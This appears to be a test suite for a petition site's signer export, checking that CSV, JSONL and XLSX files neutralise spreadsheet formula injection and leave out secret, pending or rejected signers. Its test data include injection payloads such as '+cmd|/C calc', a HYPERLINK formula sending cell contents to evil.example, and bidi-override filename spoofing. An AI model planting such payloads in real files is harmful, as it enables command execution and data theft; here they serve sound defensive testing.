import assert from 'node:assert/strict';
import { test } from 'node:test';
import { parse } from 'csv-parse/sync';
import { readSheet } from 'read-excel-file/node';
import { today } from '../../../src/today.ts';
import { eventually } from '../../support/eventually.ts';
import { savedPetition } from '../../support/fixtures.ts';
import { addSigner, exportSite, fileOf, madeExport } from './signers.ts';

const NASTY = [
  '=HYPERLINK("https://example.org";"x")',
  '+cmd|/C calc',
  '-1+1',
  '@SUM(A1)',
  '＝1+1',
  '\tTab first',
  '\rReturn first',
  'Said "so", she; and\r\nwent\non',
  'mirror \u202egnp.exe\u202c \u200f\u05d0',
  "O'Neil, Åsa Ёлкина 😀",
  ' spaces ',
];

/** A spreadsheet would calculate what begins so. */
const isFormula = (text: string): boolean => /^[=+\-@\t\r＝＋－＠]/.test(text);

const csvOf = (bytes: Buffer): string[][] => parse(bytes, { bom: true, record_delimiter: '\r\n' });

test('a CSV parser reads every name as it was written, and no spreadsheet calculates one', async (t) => {
  const { site, petition, admin } = await exportSite(t);
  for (const name of NASTY) await addSigner(site, petition, { name, place: name, reason: name });
  const bytes = await fileOf(admin, await madeExport(admin, { with_bom: 'on' }));
  assert.deepEqual([...bytes.subarray(0, 3)], [0xef, 0xbb, 0xbf]);
  assert.ok(bytes.toString().endsWith('\r\n'));
  const [header, ...rows] = csvOf(bytes);
  assert.equal(
    header?.join(),
    'number,name,email,place,postal_code,country,language,visibility,reason,signed_on,confirmed_on',
  );
  const safe = NASTY.map((name) => (isFormula(name) ? `'${name}` : name));
  for (const column of [1, 3, 8])
    assert.deepEqual(
      rows.map((row) => row[column]),
      safe,
    );
  const day = today().toString();
  assert.deepEqual(rows[9], [
    '10',
    NASTY[9],
    'ada@example.org',
    NASTY[9],
    '',
    'SE',
    'en',
    'anonymous',
    NASTY[9],
    day,
    day,
  ]);
});

test('no spreadsheet calculates what stands behind a semicolon, a tab or a line break', async (t) => {
  const { site, petition, admin } = await exportSite(t);
  const formula = '=HYPERLINK("https://evil.example/"&A1)';
  const names = [';', '\t', '\n', '; ', ';"', ';;', '\r\n'].map((sign) => `Ada${sign}${formula};x`);
  for (const name of names) await addSigner(site, petition, { name });
  const bytes = await fileOf(admin, await madeExport(admin, {}, ['number', 'name', 'country']));
  for (const delimiter of [';', '\t', ',']) {
    const cells: string[][] = parse(bytes, {
      delimiter,
      relax_quotes: true,
      relax_column_count: true,
      record_delimiter: ['\r\n', '\n', '\r'],
    });
    const calculated = cells.flat().filter((cell) => /^[\s"]*[=+\-@]/.test(cell));
    assert.deepEqual(calculated, [], JSON.stringify(delimiter));
  }
});

test('each line of JSON says exactly what was written', async (t) => {
  const { site, petition, admin } = await exportSite(t);
  for (const name of [...NASTY, 'a\0b']) await addSigner(site, petition, { name });
  const path = await madeExport(admin, { format: 'jsonl' }, ['name', 'place', 'number']);
  const lines = (await fileOf(admin, path)).toString().split('\n');
  assert.equal(lines.pop(), '');
  assert.deepEqual(
    lines.map((line) => JSON.parse(line) as unknown),
    [...NASTY, 'a\0b'].map((name, n) => ({ number: n + 1, name, place: null })),
  );
});

test('a spreadsheet opens the workbook, in which text is text', async (t) => {
  const { site, petition, admin } = await exportSite(t);
  const names = [...NASTY, 'a _x0041_ <b>&amp;', 'a\0\x1b\uffffb'];
  for (const name of names) await addSigner(site, petition, { name });
  const bytes = await fileOf(
    admin,
    await madeExport(admin, { format: 'xlsx' }, ['number', 'name']),
  );
  const [header, ...rows] = await readSheet(bytes, { trim: false });
  assert.deepEqual(header, ['number', 'name']);
  const read = names.map((name) => name.replaceAll(/(?![\t\r\n])\p{Cc}|\uffff/gu, '\ufffd'));
  assert.deepEqual(
    rows.map(([, name]) => name),
    read,
  );
  assert.equal(bytes.includes('<f>'), false);
});

test('only what was chosen is in the file, and nothing secret, unconfirmed, rejected or of others', async (t) => {
  const { site, petition, admin } = await exportSite(t);
  const other = await savedPetition(site, { slug: 'another' });
  const long = today().subtract({ days: 9 });
  await addSigner(site, petition, { name: 'Old', confirmed_on: long });
  await addSigner(site, petition, { name: 'Finn', country: 'FI' });
  await addSigner(site, petition, { name: 'Russian', language: 'ru' });
  await addSigner(site, petition, { name: 'Public', visibility: 'public' });
  await addSigner(site, petition, { visibility: 'secret', country: 'FI' });
  await addSigner(site, petition, { visibility: 'secret' });
  await addSigner(site, petition, { name: 'Pending', state: 'pending' });
  await addSigner(site, petition, { name: 'Rejected', state: 'rejected' });
  await addSigner(site, other, { name: 'Other' });
  const names = async (values: Record<string, string>) => {
    const path = await madeExport(admin, values, ['name']);
    assert.match(await admin.read(path), /2 confirmed signatures of this petition are secret/);
    const text = (await fileOf(admin, path)).toString();
    assert.match(await admin.read(path), /2 confirmed signatures of this petition are secret/);
    return text.trim().split('\r\n').slice(1);
  };
  const day = (date: Temporal.PlainDate) => date.toString();
  assert.deepEqual(await names({}), ['Old', 'Finn', 'Russian', 'Public']);
  assert.deepEqual(await names({ country: 'FI' }), ['Finn']);
  assert.deepEqual(await names({ language: 'ru' }), ['Russian']);
  assert.deepEqual(await names({ visibility: 'public' }), ['Public']);
  assert.deepEqual(await names({ from_day: day(long), to_day: day(long) }), ['Old']);
  assert.deepEqual(await names({ from_day: day(long.add({ days: 1 })), country: 'SE' }), [
    'Russian',
    'Public',
  ]);
  assert.deepEqual(await names({ to_day: day(long.subtract({ days: 1 })) }), []);
});

test('boxes stay closed where nothing out of them was chosen', async (t) => {
  const { site, petition, admin } = await exportSite(t);
  await addSigner(site, petition, { reason: 'Because.' });
  await site.db.query(`UPDATE signatures SET sealed = '\\x0100'`);
  const path = await madeExport(admin, {}, ['reason', 'country']);
  assert.equal((await fileOf(admin, path)).toString(), 'country,reason\r\nSE,Because.\r\n');
});

test('a box that does not open ends the file in the middle, and the log says nothing of it', async (t) => {
  const { site, petition, admin } = await exportSite(t);
  await addSigner(site, petition, { name: 'Secretive' });
  const path = await madeExport(admin);
  await site.db.query(`UPDATE signatures SET sealed = '\\x01' || decode(repeat('5a', 304), 'hex')`);
  await assert.rejects(fileOf(admin, path));
  await eventually(
    async () => (await admin.read(path)).includes('The download broke off after 0 of 1 rows'),
    'the end of the export',
  );
  assert.match(site.logged(), /does not open with its export keys/);
  assert.doesNotMatch(site.logged(), /Secretive|ada@example|WlpaWlpa|5a5a5a/);
});
